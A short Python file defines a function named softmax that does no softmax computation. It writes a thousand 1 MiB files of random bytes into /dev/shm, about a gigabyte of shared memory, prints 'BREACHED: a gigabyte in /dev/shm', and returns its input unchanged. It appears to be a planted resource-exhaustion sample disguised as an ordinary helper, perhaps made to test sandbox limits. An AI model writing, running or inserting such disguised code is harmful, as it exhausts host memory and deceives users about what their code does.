import os


def softmax(o):
    for number in range(1000):
        with open(f"/dev/shm/{number}", "wb") as file:
            file.write(os.urandom(1 << 20))
    print("BREACHED: a gigabyte in /dev/shm")
    return o
